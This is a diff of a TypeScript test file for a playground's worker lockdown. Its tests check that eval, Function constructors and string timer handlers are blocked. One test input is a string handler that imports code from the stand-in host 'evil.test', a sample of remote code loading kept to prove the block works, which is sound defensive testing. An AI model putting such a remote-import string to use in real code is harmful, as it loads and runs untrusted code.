@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
-import { BLOCKED_GLOBALS, lockDownWorkerScope } from './worker-lockdown.ts';
+import vm from 'node:vm';
+import { BLOCKED_GLOBALS, blockCodeFromStrings, defineLockedGlobal, lockDownWorkerScope, type CodeConstructor } from './worker-lockdown.ts';
 
 // A stand-in for a worker global: its methods live on prototypes, as in a browser.
 function fakeWorkerScope() {
@@ -65,5 +66,51 @@ describe('lockDownWorkerScope', () => {
 
   it('refuses a scope that is not a worker', () => {
     expect(() => lockDownWorkerScope({})).toThrow(/is it a worker/);
+  });
+});
+
+describe('defineLockedGlobal', () => {
+  it('installs a value that cannot be replaced or deleted, with no copy left on the prototype', () => {
+    const { scope, prototype } = fakeWorkerScope();
+    prototype.fetch = () => 'unguarded';
+    const guarded = () => 'guarded';
+    defineLockedGlobal(scope, 'fetch', guarded);
+    expect(prototype.fetch).toBeUndefined();
+    expect(Reflect.deleteProperty(scope, 'fetch')).toBe(false);
+    expect(Reflect.set(scope, 'fetch', () => 'other')).toBe(false);
+    expect(scope.fetch).toBe(guarded);
+  });
+});
+
+describe('blockCodeFromStrings', () => {
+  // A separate realm, so blocking its Function does not block the test runner's.
+  function realm() {
+    const context = vm.createContext({});
+    const constructors = vm.runInContext(
+      '[function () {}, async function () {}, function* () {}, async function* () {}].map((f) => f.constructor)', context,
+    ) as CodeConstructor[];
+    const global = vm.runInContext('globalThis', context) as Record<string, unknown>;
+    global.setTimeout = (handler: () => void) => { handler(); return 1; };
+    blockCodeFromStrings(global, constructors);
+    return (code: string) => vm.runInContext(code, context);
+  }
+
+  it.each([
+    ['eval', 'eval("1 + 1")'],
+    ['the Function global', 'Function("return 1")'],
+    ['a function\'s constructor', '(() => {}).constructor("return 1")'],
+    ['the AsyncFunction constructor', '(async () => {}).constructor("return 1")'],
+    ['the AsyncGeneratorFunction constructor', '(async function* () {}).constructor("yield 1")'],
+    ['a string timer handler', 'setTimeout("import(\'https://evil.test/\')")'],
+  ])('makes %s throw a clear message', (_label, code) => {
+    const run = realm();
+    expect(() => run(code)).toThrow(/^\[playground\] Running code from a string .* is not available here/);
+  });
+
+  it('keeps instanceof Function, function names and function timers working', () => {
+    const run = realm();
+    expect(run('(() => {}) instanceof Function')).toBe(true);
+    expect(run('Object.getPrototypeOf(async function () {}).constructor.name')).toBe('AsyncFunction');
+    expect(run('let called = false; setTimeout(() => { called = true; }); called')).toBe(true);
   });
 });
